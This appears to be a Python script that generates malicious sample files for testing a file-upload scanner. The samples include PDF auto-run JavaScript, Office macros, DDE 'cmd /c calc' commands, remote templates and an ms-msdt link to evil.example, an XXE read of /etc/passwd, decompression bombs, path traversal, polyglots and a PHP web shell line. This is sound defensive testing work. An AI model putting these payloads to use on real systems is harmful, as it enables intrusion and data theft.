"""Files that must never be kept, made by script: each shows one danger and nothing else."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]{more}>>"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{more}</Types>'
)
WORDS = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>'
RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships>'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def pdf(*objects: str | bytes, catalog: str = "", page: str = "", broken: bool = False) -> bytes:
    """A PDF of one empty page; further objects begin with number 4."""
    bodies: list[bytes] = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE.replace("{more}", page).encode(),
        *(one.encode() if isinstance(one, str) else one for one in objects),
    ]
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(bodies, 1):
        places.append(len(made))
        made += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(made)
    made += f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode()
    made += b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    made += f"trailer<</Root 1 0 R/Size {len(bodies) + 1}>>\nstartxref\n{0 if broken else start}\n%%EOF\n".encode()
    return bytes(made)


def stream(data: bytes, more: str = "/Filter/FlateDecode") -> bytes:
    return f"<</Length {len(data)}{more}>>stream\n".encode() + data + b"\nendstream"


def packed_script(*, broken: bool = False) -> bytes:
    """A script in an object stream, which a look at the bytes cannot see."""
    inner = b"9 0 <</S/JavaScript/JS(app.alert(1))>>"
    packed = zlib.compress(inner)
    holder = stream(packed, "/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    if broken:
        return pdf(holder, catalog="/OpenAction 9 0 R", broken=True).replace(b"trailer", b"tra1ler").replace(b"xref\n", b"xr3f\n")
    body, places = bytearray(b"%PDF-1.7\n"), {}
    for number, one in {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 9 0 R>>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: PAGE.replace("{more}", "").encode(), 4: holder}.items():
        places[number] = len(body)
        body += f"{number} 0 obj\n".encode() + one + b"\nendobj\n"
    places[5] = len(body)
    rows = b"\x00\x00\x00\x00\xff" + b"".join(b"\x01" + struct.pack(">HH", places[n], 0)[:2] + b"\x00\x00" for n in range(1, 6))
    rows = b"".join([b"\x00\x00\x00\xff", *(b"\x01" + struct.pack(">H", places[n]) + b"\x00" for n in range(1, 6)), b"\x00\x00\x00\xff" * 3, b"\x02" + struct.pack(">H", 4) + b"\x00"])
    body += b"5 0 obj\n" + stream(zlib.compress(rows), "/Type/XRef/W[1 2 1]/Size 10/Root 1 0 R/Filter/FlateDecode") + b"\nendobj\n"
    return bytes(body) + f"startxref\n{places[5]}\n%%EOF\n".encode()


def locked_pdf(algorithm: str = "RC4-128") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("mật khẩu", algorithm=algorithm)
    return written(writer)


def script_behind_an_empty_password(algorithm: str = "RC4-128") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    writer.root_object[NameObject("/OpenAction")] = script
    writer.encrypt("", "chu", algorithm=algorithm)
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def zeros(megabytes: int) -> bytes:
    """So many packed, piece by piece: the test itself must stay small."""
    packer = zlib.compressobj(9)
    return b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(megabytes)), packer.flush()])


def package(parts: dict[str, str | bytes | int]) -> bytes:
    """A zip; a number stands for so many megabytes of nothing."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            if not isinstance(body, int):
                archive.writestr(name, body)
                continue
            with archive.open(name, "w") as part:
                for _ in range(body):
                    part.write(bytes(1 << 20))
    return made.getvalue()


def docx(more: dict[str, str | bytes | int] | None = None, *, body: str = "<w:p><w:r><w:t>Báo cáo</w:t></w:r></w:p>", types: str = "") -> bytes:
    link = f'<Relationship Id="r1" Type="{KIND}officeDocument" Target="word/document.xml"/>'
    parts: dict[str, str | bytes | int] = {"[Content_Types].xml": TYPES.replace("{more}", types), "_rels/.rels": RELS.replace("{links}", link)}
    return package(parts | {"word/document.xml": WORDS.replace("{body}", body)} | (more or {}))


def xlsx(more: dict[str, str | bytes | int] | None = None, *, cells: str = "", types: str = "") -> bytes:
    book = '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'
    sheet = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'
    return package({"[Content_Types].xml": TYPES.replace("{more}", types), "xl/workbook.xml": book, "xl/worksheets/sheet1.xml": sheet} | (more or {}))


def linked(kind: str, target: str) -> dict[str, str | bytes | int]:
    link = f'<Relationship Id="r9" Type="{KIND}{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/settings.xml.rels": RELS.replace("{links}", link)}


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def opened(mime: str, more: dict[str, str | bytes | int], content: str = "") -> bytes:
    body = f'<office:document-content xmlns:office="o" xmlns:text="t" xmlns:table="tb" xmlns:script="s" xmlns:xlink="x">{content}</office:document-content>'
    return package({"mimetype": f"application/vnd.oasis.opendocument.{mime}", "content.xml": body} | more)


def ole(*names: str, body: bytes = b"") -> bytes:
    """A container of before 2007 with such streams in its directory."""
    header = OLE + bytes(22) + b"\x09\x00" + bytes(480)
    entries = b"".join(one.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<HBB", 2 * len(one) + 2, 5 if one == "Root Entry" else 2, 1) + bytes(60) for one in ("Root Entry", *names))
    return header + entries.ljust(-(-len(entries) // 512) * 512, b"\0") + body


def picture(kind: str = "JPEG", size: tuple[int, int] = (800, 600)) -> bytes:
    made = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(made, kind)
    return made.getvalue()


def giant_png(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body)) for name, body in chunks)


def giant_tiff(pages: list[tuple[int, int]]) -> bytes:
    """Only the heads of pages, each with one and the same little strip."""
    body = b"II*\0" + struct.pack("<I", 12) + b"\0\0\0\0"
    for number, (width, height) in enumerate(pages, 1):
        tags = ((256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (278, 4, height), (279, 4, 4))
        after = 0 if number == len(pages) else len(body) + 2 + 12 * len(tags) + 4
        body += struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
        body += struct.pack("<I", after)
    return body


def lying(data: bytes, name: bytes) -> bytes:
    """A package that says of one part that it unpacks to ten bytes."""
    made = bytearray(data)
    at = made.find(b"PK\x01\x02")
    while at >= 0:
        if made[at + 46 : at + 46 + len(name)] == name:
            made[at + 24 : at + 28] = struct.pack("<I", 10)
        at = made.find(b"PK\x01\x02", at + 4)
    return bytes(made)


def twice(name: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for one in ("[Content_Types].xml", name, name.upper()):
            archive.writestr(one, "<x/>")
    return made.getvalue()


def locked_zip() -> bytes:
    made = bytearray(docx())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(sign)
        while at >= 0:
            made[at + place] |= 1
            at = made.find(sign, at + 4)
    return bytes(made)


LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1 if i else chr(0)};".replace(chr(0), "") * 10}">' for i in range(9)) + "]><x>&a8;</x>"
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
SCRIPT = "<</S/JavaScript/JS(app.alert(1))>>"
HTML = b"<html><script>alert(1)</script></html>"
MACROS = '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'

MAKERS: dict[str, Callable[[], bytes]] = {
    "script at opening.pdf": lambda: pdf(SCRIPT, catalog="/OpenAction 4 0 R"),
    "script named.pdf": lambda: pdf("<</Names[(a)5 0 R]>>", SCRIPT, catalog="/Names<</JavaScript 4 0 R>>"),
    "script of a page.pdf": lambda: pdf(SCRIPT, page="/AA<</O 4 0 R>>"),
    "script with a hidden name.pdf": lambda: pdf("<</S/J#61vaScript/#4aS(app.alert(1))>>", catalog="/OpenAction 4 0 R"),
    "script in a packed object.pdf": packed_script,
    "script in a packed object, table broken.pdf": lambda: packed_script(broken=True),
    "script behind an empty password.pdf": script_behind_an_empty_password,
    "script behind AES.pdf": lambda: script_behind_an_empty_password("AES-256"),
    "script of an older version.pdf": lambda: pdf(SCRIPT, catalog="/OpenAction 4 0 R") + b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n%%EOF",
    "starts a program.pdf": lambda: pdf("<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(calc.exe)>>>>", page="/Annots[4 0 R]"),
    "attachment.pdf": lambda: pdf("<</Names[(a)5 0 R]>>", "<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>", stream(b"MZ", "/Type/EmbeddedFile"), catalog="/Names<</EmbeddedFiles 4 0 R>>"),
    "attachment on a page.pdf": lambda: pdf("<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</EF<</F 5 0 R>>>>>>", stream(b"MZ", ""), page="/Annots[4 0 R]"),
    "sends a form.pdf": lambda: pdf("<</S/SubmitForm/F(http://evil.example)>>", catalog="/OpenAction 4 0 R"),
    "imports data.pdf": lambda: pdf("<</S/ImportData/F(a.fdf)>>", catalog="/OpenAction 4 0 R"),
    "form of another kind.pdf": lambda: pdf("<</XFA 5 0 R/Fields[]>>", stream(b"<xdp/>", ""), catalog="/AcroForm 4 0 R"),
    "film.pdf": lambda: pdf("<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>", page="/Annots[4 0 R]"),
    "plays.pdf": lambda: pdf("<</S/Rendition/OP 0>>", catalog="/OpenAction 4 0 R"),
    "opens another.pdf": lambda: pdf("<</S/GoToE/T<</R/C>>>>", catalog="/OpenAction 4 0 R"),
    "bomb.pdf": lambda: pdf(stream(zeros(300)), page="/Contents 4 0 R"),
    "bomb in a bomb.pdf": lambda: pdf(stream(zlib.compress(zeros(300)), "/Filter[/FlateDecode/FlateDecode]"), page="/Contents 4 0 R"),
    "locked.pdf": locked_pdf,
    "locked AES.pdf": lambda: locked_pdf("AES-256"),
    "also a zip.pdf": lambda: pdf() + package({"a.exe": b"MZ"}),
    "also a page.pdf": lambda: HTML + pdf(),
    "also a photo.pdf": lambda: picture() + pdf(),
    "a program.pdf": lambda: b"MZ\x90\x00" + bytes(200),
    "a shortcut.pdf": lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100),
    "macros.docx": lambda: docx({"word/vbaProject.bin": OLE}),
    "macros under another name.docx": lambda: docx({"word/data.bin": OLE}, types='<Override PartName="/word/data.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    "macro type.docx": lambda: docx(types=MACROS),
    "macros.xlsx": lambda: xlsx({"xl/vbaProject.bin": OLE}),
    "old macro sheet.xlsx": lambda: xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}),
    "dialog sheet.xlsx": lambda: xlsx({"xl/dialogsheets/sheet1.xml": "<x/>"}),
    "macros.pptx": lambda: package({"[Content_Types].xml": TYPES.replace("{more}", ""), "ppt/presentation.xml": "<p/>", "ppt/vbaProject.bin": OLE}),
    "template from the web.docx": lambda: docx(linked("attachedTemplate", "http://evil.example/a.dotm")),
    "template from a share.docx": lambda: docx(linked("attachedTemplate", "\\\\evil.example\\a.dotm")),
    "template from a server.docx": lambda: docx(linked("attachedTemplate", "file://evil.example/a.dotm")),
    "object from the web.docx": lambda: docx(linked("oleObject", "mhtml:http://evil.example/a.html!x")),
    "frame from the web.docx": lambda: docx(linked("frame", "http://evil.example/")),
    "calls a tool.docx": lambda: docx(linked("hyperlink", "ms-msdt:/id PCWDiagnostic")),
    "object.docx": lambda: docx({"word/embeddings/oleObject1.bin": OLE}),
    "program inside.docx": lambda: docx({"word/embeddings/calc.exe": b"MZ"}),
    "control.docx": lambda: docx({"word/activeX/activeX1.xml": "<x/>"}),
    "command.docx": lambda: docx(body=field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    "command in pieces.docx": lambda: docx(body=field("DD", "EAU", "TO c:\\\\a.exe")),
    "command in short.docx": lambda: docx(body='<w:p><w:fldSimple w:instr=" DDE Excel a b "/></w:p>'),
    "command in numbers.docx": lambda: docx(body=field("QUOTE 68 68 69 65 85 84 79 32 99")),
    "command in the header.docx": lambda: docx({"word/header1.xml": WORDS.replace("{body}", field("DDEAUTO a b"))}),
    "link to a program.xlsx": lambda: xlsx({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
    "command in a cell.xlsx": lambda: xlsx(cells="<c r=\"A1\"><f>cmd|'/c calc'!A0</f></c>"),
    "entities that grow.docx": lambda: docx({"word/styles.xml": LAUGHS}),
    "entity from a file.xlsx": lambda: xlsx({"xl/sharedStrings.xml": XXE}),
    "entity in another encoding.docx": lambda: docx({"word/styles.xml": XXE.encode("utf-16")}),
    "bomb.docx": lambda: docx({"word/media/a.bmp": 300}),
    "bomb.xlsx": lambda: xlsx({"xl/worksheets/sheet2.xml": 300}),
    "bomb that lies.docx": lambda: lying(docx({"word/media/a.bmp": 90}), b"word/media/a.bmp"),
    "thousands of parts.docx": lambda: docx({f"word/media/{i}.png": b"" for i in range(2_500)}),
    "macros inside a chart.docx": lambda: docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx({"xl/vbaProject.bin": OLE})}),
    "package in a package.docx": lambda: docx({"word/embeddings/a.xlsx": xlsx({"xl/embeddings/b.xlsx": xlsx()})}),
    "macro workbook inside.docx": lambda: docx({"word/embeddings/a.xlsm": xlsx()}),
    "one name twice.docx": lambda: twice("word/document.xml"),
    "climbs out.docx": lambda: docx({"../../etc/cron.d/a": "x"}),
    "program before it.docx": lambda: b"MZ" + bytes(100) + docx(),
    "more behind it.docx": lambda: docx() + HTML,
    "locked.docx": locked_zip,
    "an archive.docx": lambda: package({"a.js": "x"}),
    "a java program.docx": lambda: package({"META-INF/MANIFEST.MF": "x", "a.class": b"\xca\xfe\xba\xbe"}),
    "macros.odt": lambda: opened("text", {"Basic/Standard/Module1.xml": "<x/>"}),
    "script.odt": lambda: opened("text", {"Scripts/python/a.py": "x"}),
    "listens.odt": lambda: opened("text", {}, '<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
    "link to a program.ods": lambda: opened("spreadsheet", {}, '<office:dde-source office:dde-application="cmd"/>'),
    "macros.doc": lambda: ole("WordDocument", "Macros", "VBA", "_VBA_PROJECT"),
    "macros.xls": lambda: ole("Workbook", "_VBA_PROJECT_CUR", "VBA"),
    "old macro sheet.xls": lambda: ole("Workbook", body=b"\x09\x08\x10\x00" + bytes(16) + b"\x85\x00\x0e\x00" + bytes(4) + b"\x00\x01" + b"\x06\x00Macro1"),
    "locked.xls": lambda: ole("EncryptedPackage", "EncryptionInfo"),
    "object.doc": lambda: ole("WordDocument", "ObjectPool", "\x01Ole10Native"),
    "object pool.doc": lambda: ole("WordDocument", "ObjectPool", "_1234567890", "\x01Ole"),
    "object in a sheet.xls": lambda: ole("Workbook", "MBD0004F3A1", "\x01Ole"),
    "page.jfif": lambda: HTML,
    "also a zip.jfif": lambda: picture() + package({"a.exe": b"MZ"}),
    "program.jpe": lambda: b"MZ" + bytes(500),
    "command.doc": lambda: ole("WordDocument", body="\x13 DDEAUTO c:\\a.exe \x15".encode("utf-16-le")),
    "an installer.doc": lambda: ole("Property", "Binary.a"),
    "rich text.doc": lambda: b"{\\rtf1\\object}",
    "giant.png": lambda: giant_png(100_000, 100_000),
    "long.png": lambda: giant_png(40_000, 1_000),
    "large.png": lambda: giant_png(9_000, 9_000),
    "giant.tif": lambda: giant_tiff([(60_000, 60_000)]),
    "a thousand pages.tif": lambda: giant_tiff([(100, 100)] * 1000),
    "long altogether.tif": lambda: giant_tiff([(6_000, 8_000)] * 30),
    "also a page.tif": lambda: giant_tiff([(10, 10)]) + HTML,
    "a photo.tif": picture,
    "a scan.jpg": lambda: giant_tiff([(10, 10)]),
    "drawing.jpg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>",
    "page.jpg": lambda: HTML,
    "also a zip.jpg": lambda: picture() + package({"a.exe": b"MZ"}),
    "also a page.jpg": lambda: picture()[:2] + b"\xff\xfe\x00\x28" + b"<script>alert(1)</script>".ljust(38) + picture()[2:],
    "also a program for servers.png": lambda: picture("PNG") + b"<?php system($_GET[0]); ?>",
    "also an archive.jpg": lambda: picture() + b"Rar!\x1a\x07\x00" + bytes(50),
    "also a paper.jpg": lambda: picture() + pdf(),
    "a film.jpg": lambda: b"\x00\x00\x00\x18ftypisom" + bytes(100),
    "moves.png": lambda: picture("GIF"),
    "a map of bits.jpg": lambda: picture("BMP"),
    "page.txt": lambda: HTML,
    "program.txt": lambda: b"MZ\x90\x00\x03",
    "program.csv": lambda: b"\x7fELF\x02\x01\x01",
    "command.csv": lambda: b"STT;T\xc3\xaan\n1;=cmd|'/c calc'!A0\n",
    "an archive.csv": lambda: package({"a": "b"}),
}  # fmt: skip
"""By a name that says what is wrong, ending as the file claims to be."""
